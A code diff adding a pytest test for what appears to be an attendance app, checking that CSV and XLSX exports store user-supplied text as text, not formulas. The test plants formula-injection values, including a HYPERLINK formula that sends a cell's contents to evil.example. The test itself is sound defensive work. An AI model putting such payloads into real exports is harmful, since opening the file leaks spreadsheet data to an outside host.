@@ -201,3 +201,31 @@ def test_statistics_and_their_exports(district, scheduled) -> None:
     assert list(w5[3:]) == [2, 0, 0, 0, 2, 1, 0]
     page = boss.get("/attendance").text
     assert "<svg" in page and "<td>9</td>" in page and "专项行动专题学习" in page
+
+
+def test_exports_write_user_text_as_text_never_as_formulas(district) -> None:
+    """Fails before: the title below was a live formula in the XLSX and a formula cell in the CSV."""
+    from openpyxl import load_workbook
+
+    accounts, admin = district["accounts"], district["clients"]["admin"]
+    hostile_unit = accounts.add_unit("=1+2", "branch", "迎泽区委")
+    accounts.add_user("hostile", "@SUM(1,2)", PASSWORD, "member", ["迎泽区委/=1+2"])
+    title = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
+    when = datetime(2027, 6, 1, 6, 0, tzinfo=UTC)
+    ok(call(admin, "post", "/api/sessions", json={
+        "title": title, "kind": "thematic", "starts_at": when.isoformat(),
+        "ends_at": (when + timedelta(hours=1)).isoformat(), "unit_ids": [hostile_unit.id]}), 201)
+    window = {"since": "2027-05-01", "until": "2027-07-01"}
+
+    def csv_cells(table: str) -> list[str]:
+        content = admin.get("/api/attendance/export", params={"format": "csv", "table": table, **window}).content
+        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
+
+    assert "'" + title in csv_cells("sessions") and title not in csv_cells("sessions")
+    assert "'@SUM(1,2)" in csv_cells("members")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for table in ("sessions", "members", "units")
+                   for cell in csv_cells(table))
+    book = load_workbook(io.BytesIO(admin.get("/api/attendance/export", params={"format": "xlsx", **window}).content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert title in [c.value for c in cells] and "@SUM(1,2)" in [c.value for c in cells]
+    assert all(cell.data_type == "s" for cell in cells)  # text cells: no formula anywhere
